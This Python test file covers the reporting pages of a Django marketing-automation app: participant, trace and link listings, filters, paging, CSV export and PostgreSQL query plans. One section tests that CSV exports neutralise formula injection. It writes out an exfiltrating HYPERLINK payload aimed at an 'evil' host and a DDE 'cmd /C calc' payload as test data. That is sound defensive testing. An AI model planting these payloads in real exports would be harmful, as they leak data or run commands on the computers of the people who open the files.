"""Reporting pages: participants, traces, link tracker, with filters and CSV export."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from drumbeat.automation import campaign_templates, services
from drumbeat.automation.models import Activity, Campaign, Trace
from drumbeat.contacts.models import Contact
from drumbeat.mailing.models import Click, Link

pytestmark = [pytest.mark.django_db, pytest.mark.postgres]


@pytest.fixture
def running(contacts, bob):
    campaign = campaign_templates.instantiate("tag_hot_contacts", bob)
    services.start_campaign(campaign, bob)
    services.launch_test(
        campaign_templates.instantiate("commercial_prospection", bob), contacts[0].pk, bob
    )
    return campaign


def rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_it_lists_participants_grouped_by_campaign(marketer_client, running):
    html = marketer_client.get("/reporting/participants/?q=person00").content.decode()
    assert "Tag Hot Contacts" in html and "Person 00" in html
    assert '<span class="badge info">Test</span>' not in html  # tests hidden by default
    with_tests = marketer_client.get("/reporting/participants/?tests=1&q=person00").content
    assert '<span class="badge info">Test</span>' in with_tests.decode()


def test_it_exports_participants_as_csv(marketer_client, running):
    data = rows(marketer_client.get(f"/reporting/participants/?campaign={running.pk}&format=csv"))
    assert data[0][:4] == ["id", "campaign", "record_id", "record"]
    assert len(data) == 31
    assert {r[1] for r in data[1:]} == {"Tag Hot Contacts"}


def test_it_filters_participants_by_activity_state(marketer_client, running):
    activity = running.activities.get(trigger="begin")
    url = f"/reporting/participants/?campaign={running.pk}&activity={activity.pk}"
    scheduled = marketer_client.get(url + "&trace_state=scheduled&q=person00").content.decode()
    assert "Person 00" in scheduled
    assert "1–25 of 30" in marketer_client.get(url + "&trace_state=scheduled").content.decode()
    assert "No participants" in marketer_client.get(url + "&event=clicked").content.decode()


def test_it_lists_traces_with_a_pivot_and_csv(marketer_client, running):
    html = marketer_client.get(f"/reporting/traces/?campaign={running.pk}").content.decode()
    assert "Send welcome email" in html and "Cancel" in html
    data = rows(marketer_client.get("/reporting/traces/?format=csv"))
    assert data[0][0] == "id" and len(data) == 31


def test_it_refuses_nothing_for_bad_filters(marketer_client, running):
    response = marketer_client.get("/reporting/traces/?campaign=abc&since=notadate&state=zzz")
    assert response.status_code == 200


def test_it_counts_clicks_per_link(marketer_client, running):
    link = Link.objects.create(
        url="https://example.com/offer", code="abc123", campaign_id=running.pk
    )
    Click.objects.create(link=link)
    Click.objects.create(link=link, is_machine=True)
    html = marketer_client.get(f"/reporting/links/?campaign={running.pk}").content.decode()
    assert "https://example.com/offer" in html and "<b>2</b>" in html
    data = rows(marketer_client.get("/reporting/links/?format=csv"))
    assert data[1][-2:] == ["2", "1"]


def test_it_filters_links_by_activity(marketer_client, running):
    email = running.activities.get(trigger="begin")
    Link.objects.create(
        url="https://example.com/a", code="a1", campaign_id=running.pk, activity_id=email.pk
    )
    Link.objects.create(
        url="https://example.com/b", code="b1", campaign_id=running.pk, activity_id=email.pk + 99
    )
    url = f"/reporting/links/?campaign={running.pk}&activity={email.pk}"
    html = marketer_client.get(url).content.decode()
    assert 'id="f-activity"' in html
    assert "https://example.com/a" in html and "https://example.com/b" not in html


def test_the_participants_of_a_figure_are_those_the_card_counts(marketer_client, running):
    from drumbeat.automation import metrics
    from drumbeat.automation.models import Trace
    from drumbeat.mailing.models import Message

    email = running.activities.get(trigger="begin")
    trace = Trace.objects.filter(activity=email, participant__unique_key="person00@example.com")
    trace = trace.get()
    Message.objects.create(
        channel="email",
        trace_id=trace.pk,
        campaign_id=running.pk,
        activity_id=email.pk,
        recipient="person00@example.com",
        message_id="<m1@test>",
        token="t1",
        state="sent",
    )
    assert metrics.activity_metrics(running)[email.pk].sent == 1
    url = f"/reporting/participants/?campaign={running.pk}&activity={email.pk}&event=sent"
    html = marketer_client.get(url).content.decode()
    assert "Person 00" in html and "1–1 of 1" in html


# --- formula injection: every export neutralises formula-like cells (lib/csvsafe.py) -----------

HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'


def test_the_participant_export_neutralises_formulas(marketer_client, running, contacts):
    Contact.objects.filter(pk=contacts[0].pk).update(name=HYPERLINK)
    data = rows(marketer_client.get(f"/reporting/participants/?campaign={running.pk}&format=csv"))
    by_record = {row[2]: row for row in data[1:]}
    assert by_record[str(contacts[0].pk)][3] == "'" + HYPERLINK
    assert by_record[str(contacts[1].pk)][3] == "Person 01"  # a normal value is untouched


def test_the_trace_export_neutralises_formulas(marketer_client, running):
    Campaign.objects.filter(pk=running.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    activity = running.activities.get(trigger="begin")
    Activity.objects.filter(pk=activity.pk).update(name="-2+3")
    Trace.objects.filter(activity=activity).update(reason="+danger")
    data = rows(marketer_client.get(f"/reporting/traces/?campaign={running.pk}&format=csv"))
    header, first = data[0], data[1]
    cells = dict(zip(header, first, strict=True))
    assert cells["campaign"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["activity"] == "'-2+3" and cells["reason"] == "'+danger"
    assert cells["state"] == "scheduled" and cells["id"].isdigit()


def test_the_link_export_neutralises_formulas(marketer_client, running):
    Link.objects.create(url=HYPERLINK, title="\t=1+1", code="evil1", campaign_id=running.pk)
    Link.objects.create(url="https://example.com/ok", title="Offer", code="ok1")
    data = rows(marketer_client.get("/reporting/links/?format=csv"))
    cells = {row[0]: row for row in data[1:]}
    assert cells["'" + HYPERLINK][1] == "'\t=1+1"
    assert cells["https://example.com/ok"][:2] == ["https://example.com/ok", "Offer"]
    assert cells["https://example.com/ok"][-2:] == ["0", "0"]


def test_lists_page_through_a_capped_number_of_rows(marketer_client, running, monkeypatch):
    from drumbeat.web import paging

    monkeypatch.setattr(paging, "CAP", 10)
    url = f"/reporting/participants/?campaign={running.pk}"
    # Without a text or step filter the total is the roll-ups' exact one (30 participants),
    # and the pages reach the newest 10 of them.
    html = marketer_client.get(url).content.decode()
    assert "1–10 of 30" in html
    assert "pages reach the newest 10" in html
    assert '<th class="num">Running</th>' in html  # the group-by table, from the roll-ups
    # A text filter needs the rows: they are counted up to 11, then "more than 10", and not
    # grouped per campaign (that would read them all)...
    html = marketer_client.get(url + "&q=person").content.decode()
    assert "1–10 of more than 10" in html
    assert '<th class="num">Running</th>' not in html
    # ...unless they are few.
    html = marketer_client.get(url + "&q=person00").content.decode()
    assert "1–1 of 1" in html and '<th class="num">Running</th>' in html
    # A page past the last reachable one shows the last.
    html = marketer_client.get(url + "&page=7").content.decode()
    assert "1–10 of 30" in html
    html = marketer_client.get(f"/reporting/traces/?campaign={running.pk}").content.decode()
    assert "1–10 of 30" in html


def test_a_step_filter_the_roll_up_counts_past_the_cap_reads_no_rows(
    marketer_client, running, monkeypatch
):
    """Its 30 scheduled traces say that more than paging.CAP participants match: the list says
    so and pages from the database, without reading CAP + 1 rows to group them first."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from drumbeat.web import paging

    monkeypatch.setattr(paging, "CAP", 10)
    begin = running.activities.get(trigger="begin")
    url = f"/reporting/participants/?campaign={running.pk}&activity={begin.pk}"
    newest = list(running.participants.order_by("-id").values_list("pk", flat=True))
    with CaptureQueriesContext(connection) as queries:
        html = marketer_client.get(url + "&trace_state=scheduled").content.decode()
    assert "1–10 of more than 10" in html
    assert all(f"/tests/{pk}/" in html for pk in newest[:10])
    assert not any("LIMIT 11" in q["sql"] for q in queries.captured_queries)
    # With a participant state besides (or a step state nobody is in) the rows are read.
    with CaptureQueriesContext(connection) as queries:
        html = marketer_client.get(url + "&trace_state=scheduled&state=running").content.decode()
    assert "1–10 of more than 10" in html
    assert any("LIMIT 11" in q["sql"] for q in queries.captured_queries)
    html = marketer_client.get(url + "&trace_state=processed").content.decode()
    assert "No participants" in html


def test_a_filtered_list_pages_through_the_rows_read_once(marketer_client, running):
    """A text, step or date filter matching at most paging.CAP rows reads them once, for the
    group-by table and the pages: the pages are slices of their ids, newest first."""
    newest_first = list(running.participants.order_by("-id").values_list("pk", flat=True))
    url = f"/reporting/participants/?campaign={running.pk}&q=person"
    first, second = (marketer_client.get(f"{url}&page={n}").content.decode() for n in (1, 2))
    assert "1–25 of 30" in first and "26–30 of 30" in second
    assert all(f"/tests/{pk}/" in first for pk in newest_first[:25])
    assert all(f"/tests/{pk}/" in second for pk in newest_first[25:])
    assert not any(f"/tests/{pk}/" in second for pk in newest_first[:25])
    since = (timezone.now() - timedelta(days=1)).date().isoformat()
    traces = Trace.objects.filter(activity__campaign=running, is_test=False).count()
    html = marketer_client.get(
        f"/reporting/traces/?campaign={running.pk}&since={since}&page=2"
    ).content.decode()
    assert traces > 25 and f"26–{traces} of {traces}" in html


def test_the_newest_participants_come_first(marketer_client, running):
    html = marketer_client.get(f"/reporting/participants/?campaign={running.pk}").content.decode()
    newest = running.participants.order_by("-id").first()
    oldest = running.participants.order_by("id").first()
    assert f"/tests/{newest.pk}/" in html and f"/tests/{oldest.pk}/" not in html


def test_chart_labels_stay_short_for_big_counts():
    from drumbeat.web.charts import compact

    # Labels of at most four characters fit the axis margin of the charts.
    assert [compact(n) for n in (0, 9_999, 12_345, 700_000, 1_250_000, 10_000_000)] == [
        "0",
        "9999",
        "12k",
        "700k",
        "1.2M",
        "10M",
    ]


@pytest.mark.postgres_only
def test_a_rare_text_search_reads_the_trigram_index(marketer_client, running):
    """On PostgreSQL a search matching few of many participants is answered from the trigram
    index of migration automation 0011, not by reading the campaign's rows."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO automation_participant (campaign_id, record_id, unique_key, state,"
            " is_test, enrolled_at) SELECT %s, 1000000 + i, 'bulk' || i || '@example.com',"
            " 'running', FALSE, now() FROM generate_series(1, 60000) AS i",
            [running.pk],
        )
        cursor.execute("ANALYZE automation_participant")
    url = f"/reporting/participants/?campaign={running.pk}&q=BULK12345@"
    with CaptureQueriesContext(connection) as queries:
        html = marketer_client.get(url).content.decode()
    assert "bulk12345@example.com" in html and "1–1 of 1" in html
    # Once, for the group-by table and the pages' ids (the page's rows are then read by id).
    searches = [
        q["sql"] for q in queries if "LIKE UPPER" in q["sql"] and '"id" IN (' not in q["sql"]
    ]
    assert len(searches) == 1
    for sql in searches:
        with connection.cursor() as cursor:
            cursor.execute(f"EXPLAIN {sql}")
            plan = "\n".join(row[0] for row in cursor.fetchall())
        assert "participant_key_trgm" in plan, plan


def add_traces(campaign, rounds: int) -> None:
    """Traces on each of the campaign's activities in turn, so that their ids interleave."""
    activities = list(campaign.activities.order_by("id"))
    participants = list(campaign.participants.filter(is_test=False).order_by("id"))
    for n in range(rounds):
        for activity in activities:
            Trace.objects.create(
                participant=participants[n % len(participants)],
                activity=activity,
                state=Trace.State.PROCESSED,
                executed_at=timezone.now(),
            )


def test_a_campaigns_traces_come_newest_first_across_its_activities(marketer_client, running):
    add_traces(running, 20)
    newest = list(
        Trace.objects.filter(activity__campaign=running, is_test=False)
        .order_by("-id")
        .values_list("pk", flat=True)
    )
    assert len(newest) > 75
    url = f"/reporting/traces/?campaign={running.pk}"
    for number in (1, 2, 3):
        page = marketer_client.get(f"{url}&page={number}").context["page"]
        assert [t.pk for t in page.object_list] == newest[(number - 1) * 25 : number * 25]
    processed = [pk for pk in newest if Trace.objects.get(pk=pk).state == Trace.State.PROCESSED]
    page = marketer_client.get(f"{url}&state=processed&page=2").context["page"]
    assert [t.pk for t in page.object_list] == processed[25:50]


def test_the_traces_of_a_campaign_of_one_activity_are_listed(marketer_client, bob, contacts):
    """One activity: its newest traces themselves (PostgreSQL's union of each activity's newest
    has a single part then)."""
    from drumbeat.automation.tests.fixtures import add_action, make_campaign

    campaign = make_campaign(bob)
    add_action(campaign)
    services.start_campaign(campaign, bob)
    newest = list(
        Trace.objects.filter(activity__campaign=campaign)
        .order_by("-id")
        .values_list("pk", flat=True)
    )
    assert newest
    response = marketer_client.get(f"/reporting/traces/?campaign={campaign.pk}")
    assert response.status_code == 200
    assert [t.pk for t in response.context["page"].object_list] == newest[:25]


@pytest.mark.postgres_only
def test_a_campaigns_lists_read_its_own_indexes_past_newer_campaigns(
    marketer_client, running, bob, monkeypatch
):
    """The participants and traces of a campaign are read from its own index entries, not by
    walking the whole table's id index down past a newer campaign's 60,000 rows (seconds at
    millions; the planner took that path when the rows were few)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    newer = campaign_templates.instantiate("tag_hot_contacts", bob)
    step = newer.activities.first()
    add_traces(running, 5)
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO automation_participant (campaign_id, record_id, unique_key, state,"
            " is_test, enrolled_at) SELECT %s, 1000000 + i, 'n' || i || '@example.com',"
            " 'running', FALSE, now() FROM generate_series(1, 60000) AS i",
            [newer.pk],
        )
        cursor.execute(
            "INSERT INTO automation_trace (participant_id, activity_id, state, scheduled_at,"
            " reason, is_test, created_at) SELECT id, %s, 'scheduled', now(), '', FALSE, now()"
            " FROM automation_participant WHERE campaign_id = %s",
            [step.pk, newer.pk],
        )
        cursor.execute("ANALYZE automation_participant")
        cursor.execute("ANALYZE automation_trace")
    for url, index in (
        (f"/reporting/participants/?campaign={running.pk}&page=2", "participant_campaign_list"),
        (f"/reporting/traces/?campaign={running.pk}&page=2", "trace_activity_newest"),
    ):
        with CaptureQueriesContext(connection) as queries:
            response = marketer_client.get(url)
        assert response.status_code == 200
        # The page's ids: the query with an OFFSET (the rows are then read by id).
        [sql] = [q["sql"] for q in queries.captured_queries if "OFFSET 25" in q["sql"]]
        with connection.cursor() as cursor:
            cursor.execute(f"EXPLAIN {sql}")
            plan = "\n".join(row[0] for row in cursor.fetchall())
        assert index in plan and "_pkey" not in plan, plan
    # A step filter matching more than paging.CAP: the campaign's participants newest first,
    # each probed for its trace at the step (not a merge with all traces by participant).
    from drumbeat.web import paging

    monkeypatch.setattr(paging, "CAP", 10)
    begin = running.activities.get(trigger="begin")
    url = f"/reporting/participants/?campaign={running.pk}&activity={begin.pk}"
    newest = list(
        running.participants.filter(is_test=False).order_by("-id").values_list("pk", flat=True)
    )
    with CaptureQueriesContext(connection) as queries:
        response = marketer_client.get(url + "&trace_state=scheduled")
    assert [p.pk for p in response.context["page"].object_list] == newest[:10]
    [sql] = [q["sql"] for q in queries.captured_queries if "OFFSET 0)" in q["sql"]]
    with connection.cursor() as cursor:
        cursor.execute(f"EXPLAIN {sql}")
        plan = "\n".join(row[0] for row in cursor.fetchall())
    assert "participant_campaign_list" in plan and "SubPlan" in plan, plan


@pytest.mark.postgres_only
def test_a_common_text_search_starts_among_the_campaigns_own_participants(
    marketer_client, running, bob
):
    """A search matching most of a campaign's participants walks the table's newest ids down
    from the campaign's own newest: a newer campaign's 60,000 rows are never read and thrown
    away (0.36 s -> 0.06 s with 1,000,000 of each)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    newer = campaign_templates.instantiate("tag_hot_contacts", bob)
    with connection.cursor() as cursor:
        for campaign, prefix in ((running, "old"), (newer, "new")):
            cursor.execute(
                "INSERT INTO automation_participant (campaign_id, record_id, unique_key, state,"
                " is_test, enrolled_at) SELECT %s, 1000000 + i, %s || i || '@example.com',"
                " 'running', FALSE, now() FROM generate_series(1, 60000) AS i",
                [campaign.pk, prefix],
            )
        cursor.execute("ANALYZE automation_participant")
    url = f"/reporting/participants/?campaign={running.pk}&q=example.com&page=2"
    with CaptureQueriesContext(connection) as queries:
        response = marketer_client.get(url)
    assert [p.unique_key for p in response.context["page"].object_list][:2] == [
        "old59975@example.com",
        "old59974@example.com",
    ]
    # Every read of the participants: the search, and the campaign's id range before it.
    reads = [q["sql"] for q in queries if 'FROM "automation_participant"' in q["sql"]]
    assert any("LIKE UPPER" in sql for sql in reads)
    for sql in reads:
        with connection.cursor() as cursor:
            cursor.execute(f"EXPLAIN (ANALYZE, FORMAT JSON) {sql}")
            [[[plan]]] = cursor.fetchall()
        assert _rows_thrown_away(plan["Plan"]) < 1_000, plan


def _rows_thrown_away(node: dict) -> int:
    """The rows an EXPLAIN ANALYZE plan read and filtered out, over all its nodes."""
    own = node.get("Rows Removed by Filter", 0) * node.get("Actual Loops", 1)
    return own + sum(_rows_thrown_away(child) for child in node.get("Plans", []))
